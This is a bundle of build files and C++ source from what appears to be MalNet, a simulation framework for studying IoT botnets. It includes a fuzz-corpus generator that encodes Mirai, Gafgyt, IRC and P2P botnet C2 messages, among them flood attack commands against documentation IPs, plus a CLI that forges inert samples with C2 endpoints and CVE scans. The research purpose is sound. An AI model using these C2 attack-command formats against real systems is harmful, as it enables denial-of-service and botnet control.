# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/test_util_bytes[1]_include.cmake")
include("/root/repo/build/tests/test_util_rng[1]_include.cmake")
include("/root/repo/build/tests/test_util_misc[1]_include.cmake")
include("/root/repo/build/tests/test_net[1]_include.cmake")
include("/root/repo/build/tests/test_sim[1]_include.cmake")
include("/root/repo/build/tests/test_dns[1]_include.cmake")
include("/root/repo/build/tests/test_asdb[1]_include.cmake")
include("/root/repo/build/tests/test_inetsim[1]_include.cmake")
include("/root/repo/build/tests/test_ids[1]_include.cmake")
include("/root/repo/build/tests/test_vulndb[1]_include.cmake")
include("/root/repo/build/tests/test_proto[1]_include.cmake")
include("/root/repo/build/tests/test_mal[1]_include.cmake")
include("/root/repo/build/tests/test_botnet[1]_include.cmake")
include("/root/repo/build/tests/test_emu[1]_include.cmake")
include("/root/repo/build/tests/test_core[1]_include.cmake")
include("/root/repo/build/tests/test_pipeline[1]_include.cmake")
include("/root/repo/build/tests/test_report[1]_include.cmake")
include("/root/repo/build/tests/test_live_chain[1]_include.cmake")
include("/root/repo/build/tests/test_extensions[1]_include.cmake")
include("/root/repo/build/tests/test_seed_sweep[1]_include.cmake")
include("/root/repo/build/tests/test_robustness[1]_include.cmake")
