# Empty dependencies file for test_live_chain.
# This may be replaced when dependencies are built.
