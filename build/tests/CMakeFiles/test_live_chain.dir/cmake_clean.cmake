file(REMOVE_RECURSE
  "CMakeFiles/test_live_chain.dir/test_live_chain.cpp.o"
  "CMakeFiles/test_live_chain.dir/test_live_chain.cpp.o.d"
  "test_live_chain"
  "test_live_chain.pdb"
  "test_live_chain[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_live_chain.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
