
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/tests/test_pipeline.cpp" "tests/CMakeFiles/test_pipeline.dir/test_pipeline.cpp.o" "gcc" "tests/CMakeFiles/test_pipeline.dir/test_pipeline.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/malnet_core.dir/DependInfo.cmake"
  "/root/repo/build/src/report/CMakeFiles/malnet_report.dir/DependInfo.cmake"
  "/root/repo/build/src/emu/CMakeFiles/malnet_emu.dir/DependInfo.cmake"
  "/root/repo/build/src/botnet/CMakeFiles/malnet_botnet.dir/DependInfo.cmake"
  "/root/repo/build/src/mal/CMakeFiles/malnet_mal.dir/DependInfo.cmake"
  "/root/repo/build/src/vulndb/CMakeFiles/malnet_vulndb.dir/DependInfo.cmake"
  "/root/repo/build/src/proto/CMakeFiles/malnet_proto.dir/DependInfo.cmake"
  "/root/repo/build/src/inetsim/CMakeFiles/malnet_inetsim.dir/DependInfo.cmake"
  "/root/repo/build/src/dns/CMakeFiles/malnet_dns.dir/DependInfo.cmake"
  "/root/repo/build/src/asdb/CMakeFiles/malnet_asdb.dir/DependInfo.cmake"
  "/root/repo/build/src/intel/CMakeFiles/malnet_intel.dir/DependInfo.cmake"
  "/root/repo/build/src/ids/CMakeFiles/malnet_ids.dir/DependInfo.cmake"
  "/root/repo/build/src/sim/CMakeFiles/malnet_sim.dir/DependInfo.cmake"
  "/root/repo/build/src/net/CMakeFiles/malnet_net.dir/DependInfo.cmake"
  "/root/repo/build/src/util/CMakeFiles/malnet_util.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
