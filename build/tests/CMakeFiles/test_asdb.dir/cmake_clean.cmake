file(REMOVE_RECURSE
  "CMakeFiles/test_asdb.dir/test_asdb.cpp.o"
  "CMakeFiles/test_asdb.dir/test_asdb.cpp.o.d"
  "test_asdb"
  "test_asdb.pdb"
  "test_asdb[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_asdb.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
