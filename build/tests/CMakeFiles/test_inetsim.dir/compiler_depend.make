# Empty compiler generated dependencies file for test_inetsim.
# This may be replaced when dependencies are built.
