file(REMOVE_RECURSE
  "CMakeFiles/test_inetsim.dir/test_inetsim.cpp.o"
  "CMakeFiles/test_inetsim.dir/test_inetsim.cpp.o.d"
  "test_inetsim"
  "test_inetsim.pdb"
  "test_inetsim[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_inetsim.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
