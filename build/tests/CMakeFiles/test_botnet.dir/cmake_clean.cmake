file(REMOVE_RECURSE
  "CMakeFiles/test_botnet.dir/test_botnet.cpp.o"
  "CMakeFiles/test_botnet.dir/test_botnet.cpp.o.d"
  "test_botnet"
  "test_botnet.pdb"
  "test_botnet[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_botnet.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
