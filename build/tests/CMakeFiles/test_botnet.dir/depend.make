# Empty dependencies file for test_botnet.
# This may be replaced when dependencies are built.
