file(REMOVE_RECURSE
  "CMakeFiles/test_vulndb.dir/test_vulndb.cpp.o"
  "CMakeFiles/test_vulndb.dir/test_vulndb.cpp.o.d"
  "test_vulndb"
  "test_vulndb.pdb"
  "test_vulndb[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_vulndb.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
