# Empty dependencies file for test_vulndb.
# This may be replaced when dependencies are built.
