# Empty dependencies file for test_mal.
# This may be replaced when dependencies are built.
