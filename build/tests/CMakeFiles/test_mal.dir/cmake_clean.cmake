file(REMOVE_RECURSE
  "CMakeFiles/test_mal.dir/test_mal.cpp.o"
  "CMakeFiles/test_mal.dir/test_mal.cpp.o.d"
  "test_mal"
  "test_mal.pdb"
  "test_mal[1]_tests.cmake"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/test_mal.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
