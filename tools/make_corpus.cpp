// Regenerates the committed fuzz seed corpus (tests/corpus/) from the
// project's own encoders, so every corpus entry is a valid wire message by
// construction and the corpus can be rebuilt byte-identically after an
// encoder change:
//
//   malnet_make_corpus [output-dir]     (default: tests/corpus)
//
// test_testkit's CorpusEntriesAreValid locks the committed files to the
// decoders; if an encoder legitimately changes, rerun this tool and commit
// the result.
#include <filesystem>
#include <fstream>
#include <iostream>

#include "core/pipeline.hpp"
#include "dns/message.hpp"
#include "net/packet.hpp"
#include "net/pcap.hpp"
#include "profile/profile.hpp"
#include "proto/daddyl33t.hpp"
#include "proto/gafgyt.hpp"
#include "proto/irc.hpp"
#include "proto/mirai.hpp"
#include "proto/p2p.hpp"
#include "report/dataset_io.hpp"
#include "store/segment.hpp"
#include "sync/wire.hpp"

using namespace malnet;
using namespace malnet::proto;

namespace {

void write_file(const std::filesystem::path& path, util::BytesView data) {
  std::ofstream f(path, std::ios::binary);
  if (!f) throw std::runtime_error("cannot open " + path.string());
  f.write(reinterpret_cast<const char*>(data.data()),
          static_cast<std::streamsize>(data.size()));
  if (!f) throw std::runtime_error("write failed for " + path.string());
  std::cout << path.string() << "  (" << data.size() << " bytes)\n";
}

void write_file(const std::filesystem::path& path, const std::string& text) {
  write_file(path, util::to_bytes(text));
}

net::Packet sample_packet(net::Protocol proto) {
  net::Packet p;
  p.time = util::SimTime{1'651'881'600'000'000};  // 2022-05-07, the re-query day
  p.src = net::Ipv4{192, 0, 2, 5};
  p.dst = net::Ipv4{203, 0, 113, 9};
  p.proto = proto;
  p.ttl = 64;
  switch (proto) {
    case net::Protocol::kTcp:
      p.src_port = 49152;
      p.dst_port = 23;
      p.flags.psh = true;
      p.flags.ack = true;
      p.seq = 0x1000;
      p.ack_num = 0x2000;
      p.payload = util::to_bytes("BUILD MIPS\n");
      break;
    case net::Protocol::kUdp:
      p.src_port = 5353;
      p.dst_port = 53;
      p.payload = dns::encode(dns::make_query(0x1337, "cnc.malnet.example"));
      break;
    case net::Protocol::kIcmp:
      p.icmp = {3, 3};  // BLACKNURSE
      p.payload = util::to_bytes("icmp-payload");
      break;
  }
  return p;
}

}  // namespace

int main(int argc, char** argv) {
  const std::filesystem::path dir = argc > 1 ? argv[1] : "tests/corpus";
  std::filesystem::create_directories(dir);

  // --- Mirai (binary C2 protocol) ---
  write_file(dir / "mirai_handshake.bin", mirai::encode_handshake("mips.malnet.1"));
  write_file(dir / "mirai_keepalive.bin", mirai::encode_keepalive());
  proto::AttackCommand mirai_cmd;
  mirai_cmd.type = proto::AttackType::kSynFlood;
  mirai_cmd.target = {net::Ipv4{203, 0, 113, 9}, 443};
  mirai_cmd.duration_s = 120;
  write_file(dir / "mirai_attack.bin", mirai::encode_attack(mirai_cmd));

  // --- Gafgyt (text C2 protocol) ---
  write_file(dir / "gafgyt_hello.txt", gafgyt::encode_hello("MIPS"));
  proto::AttackCommand gafgyt_cmd;
  gafgyt_cmd.type = proto::AttackType::kStd;
  gafgyt_cmd.target = {net::Ipv4{198, 51, 100, 7}, 9999};
  gafgyt_cmd.duration_s = 60;
  write_file(dir / "gafgyt_attack.txt", gafgyt::encode_attack(gafgyt_cmd));

  // --- Daddyl33t (text C2 protocol) ---
  write_file(dir / "daddyl33t_login.txt", daddyl33t::encode_login("bot42"));
  proto::AttackCommand daddy_cmd;
  daddy_cmd.type = proto::AttackType::kBlacknurse;
  daddy_cmd.target = {net::Ipv4{192, 0, 2, 55}, 0};
  daddy_cmd.duration_s = 45;
  write_file(dir / "daddyl33t_attack.txt", daddyl33t::encode_attack(daddy_cmd));

  // --- IRC (Tsunami) ---
  write_file(dir / "irc_privmsg.txt",
             proto::irc::privmsg("#tsunami", "!* UDP 198.51.100.7 80 30").serialize());

  // --- P2P (Mozi/Hajime DHT) ---
  const std::string node_id = "MALNET-NODE-0123456@";  // 20 bytes
  write_file(dir / "p2p_ping.bin", proto::p2p::encode_ping({node_id, "aa"}));
  write_file(dir / "p2p_get_peers.bin",
             proto::p2p::encode_get_peers({node_id, "gp"}));
  proto::p2p::PeersReply reply;
  reply.node_id = node_id;
  reply.txn = "gp";
  reply.peers = {{net::Ipv4{203, 0, 113, 20}, 6881}, {net::Ipv4{198, 51, 100, 3}, 6882}};
  write_file(dir / "p2p_peers_reply.bin", proto::p2p::encode_peers_reply(reply));

  // --- Family profiles (src/profile) — fuzz seeds for test_profile ---
  write_file(dir / "profile_mirai.json",
             profile::builtin_profile(Family::kMirai).to_pretty_json());
  write_file(dir / "profile_tsunami.json",
             profile::builtin_profile(Family::kTsunami).to_pretty_json());
  write_file(dir / "profile_vpnfilter.json",
             profile::builtin_profile(Family::kVpnFilter).to_pretty_json());
  auto variant = profile::builtin_profile(Family::kMirai);
  variant.name = "mirai-fallback";
  variant.handshake_magic = 2;
  variant.extra_fallbacks = 2;
  variant.attacker_quota = 0;
  write_file(dir / "profile_variant.json", variant.to_pretty_json());

  // --- DNS query/response pair ---
  const auto query = dns::make_query(0x1337, "cnc.malnet.example");
  write_file(dir / "dns_query.bin", dns::encode(query));
  write_file(dir / "dns_response.bin",
             dns::encode(dns::make_response(query, net::Ipv4{203, 0, 113, 80})));

  // --- Raw IPv4 packets + a minimal pcap ---
  write_file(dir / "packet_tcp.bin", net::to_wire(sample_packet(net::Protocol::kTcp)));
  write_file(dir / "packet_udp.bin", net::to_wire(sample_packet(net::Protocol::kUdp)));
  write_file(dir / "packet_icmp.bin", net::to_wire(sample_packet(net::Protocol::kIcmp)));
  net::PcapWriter pcap;
  pcap.add(sample_packet(net::Protocol::kTcp));
  pcap.add(sample_packet(net::Protocol::kUdp));
  pcap.add(sample_packet(net::Protocol::kIcmp));
  write_file(dir / "mini.pcap", pcap.bytes());

  // --- Sync replication frames (MSY1, full frames incl. length prefix) ---
  // The PUT carries a real minimal segment so the fuzzer starts from a
  // frame that actually reaches the import path.
  core::StudyResults empty_results;
  store::SegmentHeader seg_header;
  seg_header.kind = store::SegmentKind::kIngest;
  seg_header.seed = 22;
  const auto seg_payload = report::serialize_datasets(empty_results);
  const auto seg_bytes =
      store::encode_segment(seg_header, store::build_index(empty_results),
                            util::BytesView{seg_payload});
  const auto seg_hash = store::content_hash(util::BytesView{seg_bytes});
  util::ByteWriter tree_req;
  tree_req.lp16(std::string_view("a"));
  util::ByteWriter list_req;
  list_req.lp16(std::string_view(""));
  util::ByteWriter get_req;
  get_req.lp16(seg_hash);
  write_file(dir / "sync_hello.bin",
             sync::encode_sync_request({1, sync::SyncOp::kHello, {}}));
  write_file(dir / "sync_tree.bin",
             sync::encode_sync_request({2, sync::SyncOp::kTree, tree_req.take()}));
  write_file(dir / "sync_list.bin",
             sync::encode_sync_request({3, sync::SyncOp::kList, list_req.take()}));
  write_file(dir / "sync_get.bin",
             sync::encode_sync_request({4, sync::SyncOp::kGet, get_req.take()}));
  write_file(dir / "sync_put.bin",
             sync::encode_sync_request({5, sync::SyncOp::kPut, seg_bytes}));

  std::cout << "corpus written to " << dir.string() << "\n";
  return 0;
}
