# Drives malnetctl through its artifact workflow and checks the outputs.
execute_process(COMMAND ${CTL} forge --family Gafgyt --c2 60.5.6.7:666
                        --vuln CVE-2018-10561 --out smoke.mbf
                RESULT_VARIABLE rc OUTPUT_VARIABLE out)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "forge failed: ${out}")
endif()
execute_process(COMMAND ${CTL} inspect smoke.mbf
                RESULT_VARIABLE rc OUTPUT_VARIABLE out)
if(NOT rc EQUAL 0 OR NOT out MATCHES "YARA label: Gafgyt")
  message(FATAL_ERROR "inspect failed: ${out}")
endif()
execute_process(COMMAND ${CTL} analyze smoke.mbf --pcap smoke.pcap
                RESULT_VARIABLE rc OUTPUT_VARIABLE out)
if(NOT rc EQUAL 0 OR NOT out MATCHES "C2 candidate: 60.5.6.7:666")
  message(FATAL_ERROR "analyze failed: ${out}")
endif()
if(NOT EXISTS smoke.pcap)
  message(FATAL_ERROR "analyze did not write the pcap")
endif()
execute_process(COMMAND ${CTL} study --samples 60 --no-probe
                        --save-datasets smoke.mds
                RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "study failed: ${err}")
endif()
execute_process(COMMAND ${CTL} report smoke.mds
                RESULT_VARIABLE rc OUTPUT_VARIABLE out)
if(NOT rc EQUAL 0 OR NOT out MATCHES "D-Samples   60")
  message(FATAL_ERROR "report failed: ${out}")
endif()

# Seed-sharded parallel execution: the same study split over 2 shards must
# still analyse every sample, and the merged datasets must feed the report
# path end-to-end.
execute_process(COMMAND ${CTL} study --samples 60 --no-probe --jobs 2
                RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT rc EQUAL 0 OR NOT out MATCHES "D-Samples   60")
  message(FATAL_ERROR "sharded study failed: ${out}${err}")
endif()

# Store-backed study: shards commit as segments, --resume must skip all of
# them and reproduce the identical artifact, and the query layer must keep
# answering across a compaction.
file(REMOVE_RECURSE smoke-store)
execute_process(COMMAND ${CTL} study --samples 60 --no-probe --jobs 2
                        --store smoke-store --save-datasets smoke-store.mds
                RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT rc EQUAL 0 OR NOT out MATCHES "2 segment\\(s\\) written")
  message(FATAL_ERROR "store study failed: ${out}${err}")
endif()
execute_process(COMMAND ${CTL} study --samples 60 --no-probe --jobs 2
                        --store smoke-store --resume
                        --save-datasets smoke-resume.mds
                RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT rc EQUAL 0 OR NOT out MATCHES "2 shard\\(s\\) resumed")
  message(FATAL_ERROR "store resume failed: ${out}${err}")
endif()
execute_process(COMMAND ${CMAKE_COMMAND} -E compare_files
                        smoke-store.mds smoke-resume.mds
                RESULT_VARIABLE rc)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "resumed study artifact differs from the original")
endif()
execute_process(COMMAND ${CTL} query --store smoke-store totals
                RESULT_VARIABLE rc OUTPUT_VARIABLE out)
if(NOT rc EQUAL 0 OR NOT out MATCHES "samples=60")
  message(FATAL_ERROR "store query failed: ${out}")
endif()
execute_process(COMMAND ${CTL} compact --store smoke-store
                RESULT_VARIABLE rc OUTPUT_VARIABLE out)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "compact failed: ${out}")
endif()
execute_process(COMMAND ${CTL} query --store smoke-store totals
                RESULT_VARIABLE rc OUTPUT_VARIABLE out)
if(NOT rc EQUAL 0 OR NOT out MATCHES "samples=60 .* segments=1")
  message(FATAL_ERROR "post-compact query failed: ${out}")
endif()

# The quickstart example is the README's first command; it must keep
# running end-to-end.
if(DEFINED QUICKSTART)
  execute_process(COMMAND ${QUICKSTART}
                  RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
  if(NOT rc EQUAL 0)
    message(FATAL_ERROR "quickstart failed: ${out}${err}")
  endif()
endif()
