// malnetctl — command-line front end for the MalNet library.
//
//   malnetctl forge   --family <name> --c2 <ip:port> [--vuln <cve>] --out <file.mbf>
//   malnetctl inspect <file.mbf>
//   malnetctl analyze <file.mbf> [--pcap <out.pcap>]
//   malnetctl study   [--samples N] [--seed N] [--shards N] [--jobs N]
//                     [--no-probe] [--claims] [--store <dir> [--resume]]
//   malnetctl ingest  --store <dir> (<file.mds> ... | study options)
//   malnetctl compact --store <dir>
//   malnetctl query   (--store <dir> | --connect <host:port>) [<query> ...]
//   malnetctl serve   --store <dir> [--listen [host:]port] [--allow-sync]
//   malnetctl sync    (push|pull) --store <dir> --connect <host:port>
//   malnetctl export-rules [--samples N] [--seed N] --out <file.rules>
//
// `forge` produces the same inert MBF artifacts the test corpus uses;
// `analyze` runs the observe-mode sandbox plus C2 classification and
// exploit attribution on one file; `study` runs the pipeline and prints the
// headline tables (or the claim scorecard with --claims). The store
// commands manage the crash-safe incremental store (DESIGN.md §12).
#include <cctype>
#include <filesystem>
#include <fstream>
#include <iomanip>
#include <iostream>
#include <map>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include <unistd.h>

#include "asdb/asdb.hpp"
#include "core/c2detect.hpp"
#include "core/exploit_id.hpp"
#include "core/parallel_study.hpp"
#include "core/pipeline.hpp"
#include "emu/sandbox.hpp"
#include "mal/binary.hpp"
#include "mal/labels.hpp"
#include "obs/json.hpp"
#include "obs/obs.hpp"
#include "profile/parse.hpp"
#include "profile/registry.hpp"
#include "report/claims.hpp"
#include "report/dataset_io.hpp"
#include "report/digest.hpp"
#include "report/dossier.hpp"
#include "report/figures.hpp"
#include "report/rules_export.hpp"
#include "report/tables.hpp"
#include "obs/expo.hpp"
#include "obs/slowlog.hpp"
#include "obs/window.hpp"
#include "serve/admin.hpp"
#include "serve/client.hpp"
#include "serve/server.hpp"
#include "store/query.hpp"
#include "store/store.hpp"
#include "sync/client.hpp"
#include "sync/session.hpp"
#include "util/log.hpp"
#include "util/socket.hpp"

#include <csignal>

namespace {

using namespace malnet;

[[noreturn]] void usage() {
  std::cerr <<
      "usage: malnetctl <command> [options]\n"
      "  forge --family <Mirai|Gafgyt|...> --c2 <ip:port> [--vuln <cve>]\n"
      "        [--seed N] --out <file.mbf>\n"
      "  inspect <file.mbf>\n"
      "  analyze <file.mbf> [--pcap <out.pcap>]\n"
      "  study [--samples N] [--seed N] [--shards N] [--jobs N] [--no-probe]\n"
      "        [--claims] [--save-datasets <file.mds>] [--strict]\n"
      "        [--profiles <dir>] [--variant <name>[:fraction]]\n"
      "        [--store <dir> [--resume]]\n"
      "        [--metrics-out <m.json>] [--trace-out <t.json>] [--profile]\n"
      "        [--chaos <none|flaky|hostile>] [--chaos-seed N]\n"
      "        (--chaos injects deterministic faults (loss bursts, dup/\n"
      "         reorder, DNS failures, C2 crashes); --chaos-seed varies the\n"
      "         fault schedule without changing the world. Impaired samples\n"
      "         land in the degraded section of the results.\n"
      "         --shards splits the study into N deterministic seed shards;\n"
      "         --jobs bounds worker threads and never changes the output.\n"
      "         --jobs alone implies --shards equal to the job count.\n"
      "         --metrics-out writes the merged registry snapshot (JSON,\n"
      "         byte-identical for any --jobs); --trace-out writes a Chrome\n"
      "         trace_event file for chrome://tracing or ui.perfetto.dev;\n"
      "         --profile prints the per-phase table.\n"
      "         --store commits each finished shard into a crash-safe\n"
      "         segment store; --resume skips shards already committed by an\n"
      "         identically-configured run. --strict exits 3 when any sample\n"
      "         degraded.\n"
      "         --profiles loads every *.json family profile in the\n"
      "         directory (overriding builtins of the same name); --variant\n"
      "         routes the named profile's family onto that variant for a\n"
      "         fraction of planned C2s, default 1.0.)\n"
      "  ingest --store <dir> (<file.mds> ... | study options)\n"
      "        (appends dataset batches to a store as segments)\n"
      "  compact --store <dir>   (merge all segments into one, deterministically)\n"
      "  query --store <dir> [--metrics-out <m.json>] [<query> ...]\n"
      "        (index-only answers; 'malnetctl query --store D help' lists them)\n"
      "  query --connect <host:port> [<query> ...]\n"
      "        (same queries against a running 'serve --listen' server)\n"
      "  serve --store <dir>   (answer query lines from stdin until EOF/quit)\n"
      "  serve --store <dir> --listen [host:]port [--io-threads N]\n"
      "        [--idle-timeout-ms N] [--metrics-out <m.json>] [--allow-sync]\n"
      "        [--admin [host:]port] [--slow-threshold-us N]\n"
      "        (concurrent TCP query server; port 0 picks an ephemeral port,\n"
      "         printed on the 'serving on' line. SIGTERM/SIGINT drains:\n"
      "         in-flight requests are answered, then the process exits 0.\n"
      "         --allow-sync additionally accepts sync push/pull sessions on\n"
      "         the same port — replicas replicate, queries keep answering.\n"
      "         --admin starts the HTTP introspection endpoint (/metrics,\n"
      "         /healthz, /statusz, /slowz, /tracez), reported on the\n"
      "         'admin on' line; --slow-threshold-us tunes the slow log.)\n"
      "  sync (push|pull) --store <dir> --connect <host:port>\n"
      "        [--metrics-out <m.json>] [--trace-out <t.json>\n"
      "        [--admin <host:port>]]\n"
      "        (replicate content-hashed segments against a sync-enabled\n"
      "         server: push sends segments the server lacks, pull fetches\n"
      "         segments the local store lacks. Hash-tree refinement means a\n"
      "         re-sync of identical stores transfers nothing. --trace-out\n"
      "         writes a Chrome trace of the sync's rpcs; with --admin\n"
      "         pointing at the server's admin endpoint the file also\n"
      "         contains the server-side spans, one shared trace id.)\n"
      "  report <file.mds>   (re-render tables from a saved dataset artifact)\n"
      "  dossier <file.mds> <c2-address|sample-sha>\n"
      "  digest <file.mds> [--week N]\n"
      "  export-rules [--samples N] [--seed N] --out <file.rules>\n"
      "  profile check <file.json> ...   (validate family profiles; exit 2\n"
      "        with line/field context on the first malformed file)\n"
      "  profile dump [<dir>]   (write the builtin profiles as canonical\n"
      "        pretty-printed JSON, default directory 'profiles')\n"
      "  json-check <file.json> [dotted.key ...]   (CI artifact validator)\n"
      "global: --log-level <debug|info|warn|error|off>\n";
  std::exit(2);
}

util::Bytes read_file(const std::string& path) {
  std::ifstream f(path, std::ios::binary);
  if (!f) throw std::runtime_error("cannot open " + path);
  return util::Bytes((std::istreambuf_iterator<char>(f)),
                     std::istreambuf_iterator<char>());
}

void write_file(const std::string& path, util::BytesView data) {
  std::ofstream f(path, std::ios::binary);
  if (!f) throw std::runtime_error("cannot write " + path);
  f.write(reinterpret_cast<const char*>(data.data()),
          static_cast<std::streamsize>(data.size()));
}

/// Minimal flag parser: --key value pairs plus positionals.
struct Args {
  std::vector<std::string> positional;
  std::map<std::string, std::string> flags;

  [[nodiscard]] std::string get(const std::string& key,
                                const std::string& fallback = "") const {
    const auto it = flags.find(key);
    return it == flags.end() ? fallback : it->second;
  }
  [[nodiscard]] bool has(const std::string& key) const { return flags.count(key) > 0; }
};

Args parse_args(int argc, char** argv, int first) {
  Args args;
  for (int i = first; i < argc; ++i) {
    const std::string a = argv[i];
    if (a.rfind("--", 0) == 0) {
      std::string key = a.substr(2);
      // --key=value form (e.g. --chaos=hostile) splits in place.
      if (const auto eq = key.find('='); eq != std::string::npos) {
        args.flags[key.substr(0, eq)] = key.substr(eq + 1);
      } else if (key == "no-probe" || key == "claims" || key == "profile" ||
                 key == "resume" || key == "strict" || key == "allow-sync") {
        args.flags[key] = "1";
      } else if (i + 1 < argc) {
        args.flags[key] = argv[++i];
      } else {
        usage();
      }
    } else {
      args.positional.push_back(a);
    }
  }
  return args;
}

int cmd_forge(const Args& args) {
  const auto family = proto::family_from_string(args.get("family", "Mirai"));
  if (!family) {
    std::cerr << "unknown family\n";
    return 2;
  }
  mal::MbfBinary bin;
  bin.behavior.family = *family;
  bin.behavior.bot_id = proto::to_string(*family) + ".ctl";
  bin.marker_strings = {mal::family_marker(*family)};

  if (proto::is_p2p(*family)) {
    bin.behavior.node_id = std::string(20, 'P');
    bin.behavior.p2p_peers = {{net::Ipv4{100, 70, 0, 1}, 6881}};
  } else {
    const auto c2 = net::parse_endpoint(args.get("c2", "60.1.2.3:23"));
    if (!c2) {
      std::cerr << "bad --c2 endpoint\n";
      return 2;
    }
    bin.behavior.c2_ip = c2->ip;
    bin.behavior.c2_port = c2->port;
  }
  if (args.has("vuln")) {
    const auto* v = vulndb::VulnDatabase::instance().by_cve(args.get("vuln"));
    if (v == nullptr) {
      std::cerr << "unknown CVE (only Table 4 CVEs are known)\n";
      return 2;
    }
    bin.behavior.scans.push_back({v->port, v->id, 60, 15.0});
    bin.behavior.loader_name = "t8UsA2.sh";
    bin.behavior.downloader_host =
        net::to_string(bin.behavior.c2_ip.value_or(net::Ipv4{60, 1, 2, 3}));
  }
  util::Rng rng(std::stoull(args.get("seed", "1")));
  const auto bytes = mal::forge(bin, rng);
  const auto out = args.get("out", "sample.mbf");
  write_file(out, bytes);
  std::cout << "forged " << out << " (" << bytes.size() << " bytes, sha "
            << mal::digest(bytes).substr(0, 16) << "…)\n";
  return 0;
}

int cmd_inspect(const Args& args) {
  if (args.positional.empty()) usage();
  const auto bytes = read_file(args.positional[0]);
  const auto parsed = mal::parse(bytes);
  if (!parsed) {
    std::cout << "not an MBF binary\n";
    return 1;
  }
  std::cout << "arch: " << (parsed->arch == mal::Arch::kMips32 ? "MIPS32"
                            : parsed->arch == mal::Arch::kArm32 ? "ARM32"
                                                                : "x86")
            << "\nsha256: " << mal::digest(bytes) << '\n';
  const auto label = mal::yara_label(bytes);
  std::cout << "YARA label: " << (label ? proto::to_string(*label) : "(none)") << '\n';
  const auto& b = parsed->behavior;
  std::cout << "family: " << proto::to_string(b.family) << '\n';
  if (b.c2_domain) std::cout << "C2: " << *b.c2_domain << ':' << b.c2_port << '\n';
  if (b.c2_ip) std::cout << "C2: " << net::to_string(*b.c2_ip) << ':' << b.c2_port << '\n';
  if (b.c2_fallback_ip) {
    std::cout << "fallback C2: " << net::to_string(*b.c2_fallback_ip) << '\n';
  }
  for (const auto& s : b.scans) {
    std::cout << "scan: port " << s.port << ", " << s.target_count << " targets @ "
              << s.pps << " pps"
              << (s.vuln ? " exploiting " + vulndb::to_string(*s.vuln) : std::string())
              << '\n';
  }
  if (const auto err = b.validate()) std::cout << "INVALID: " << *err << '\n';
  return 0;
}

int cmd_analyze(const Args& args) {
  if (args.positional.empty()) usage();
  const auto bytes = read_file(args.positional[0]);

  sim::EventScheduler sched;
  sim::Network net(sched);
  emu::Sandbox sandbox(net);
  emu::SandboxReport report;
  bool done = false;
  sandbox.start(bytes, {}, [&](const emu::SandboxReport& r) {
    report = r;
    done = true;
  });
  sched.run_until(sched.now() + sim::Duration::minutes(12));
  if (!done || !report.parsed) {
    std::cout << "sample did not run\n";
    return 1;
  }
  if (report.unsupported_arch) {
    std::cout << "unsupported CPU architecture (sandbox is MIPS32-only)\n";
    return 1;
  }
  std::cout << "activated: " << (report.activated ? "yes" : "no") << ", "
            << report.capture.size() << " packets, " << report.dns_queries.size()
            << " DNS queries, " << report.exploits.size() << " exploit payloads\n";
  for (const auto& cand : core::detect_c2(report, sandbox.martian())) {
    std::cout << "C2 candidate: " << cand.address << ':' << cand.port << " ("
              << cand.connection_attempts << " attempts)\n";
  }
  for (const auto& finding : core::identify_exploits(report)) {
    const auto& v = vulndb::VulnDatabase::instance().by_id(finding.vuln);
    std::cout << "exploit: " << v.name << " -> http://" << finding.downloader_host
              << '/' << finding.loader_name << '\n';
  }
  if (args.has("pcap")) {
    report.save_pcap(args.get("pcap"));
    std::cout << "wrote " << args.get("pcap") << '\n';
  }
  return 0;
}

core::ParallelStudyConfig build_study_config(const Args& args) {
  core::ParallelStudyConfig cfg;
  cfg.base.seed = std::stoull(args.get("seed", "22"));
  if (args.has("samples")) cfg.base.world.total_samples = std::stoi(args.get("samples"));
  if (args.has("no-probe")) cfg.base.run_probe_campaign = false;
  cfg.base.trace = args.has("trace-out");
  cfg.base.profile_wall = args.has("profile");
  if (args.has("chaos")) {
    const auto profile = faultsim::profile_from_string(args.get("chaos"));
    if (!profile) {
      throw std::runtime_error("bad --chaos '" + args.get("chaos") +
                               "' (want none|flaky|hostile)");
    }
    cfg.base.chaos = *profile;
  }
  cfg.base.chaos_seed = std::stoull(args.get("chaos-seed", "0"));
  if (args.has("profiles")) {
    auto reg = std::make_shared<profile::Registry>();
    if (const auto err = reg->load_dir(args.get("profiles"))) {
      throw std::runtime_error(*err);
    }
    cfg.base.profiles = std::move(reg);
  }
